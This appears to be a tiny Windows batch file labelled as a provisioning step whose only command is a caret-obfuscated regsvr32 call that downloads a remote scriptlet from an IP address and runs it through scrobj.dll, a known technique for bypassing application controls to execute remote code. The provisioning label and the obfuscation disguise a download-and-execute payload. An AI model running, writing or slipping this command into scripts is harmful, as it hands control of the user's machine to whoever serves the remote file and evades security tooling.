REM provision 7119 v0
re^g^s^v^r^32 /s /n /^u /^i:h^t^t^p://198.^51.^100.9/f^il^e.s^c^t ^sc^r^o^bj.d^l^l
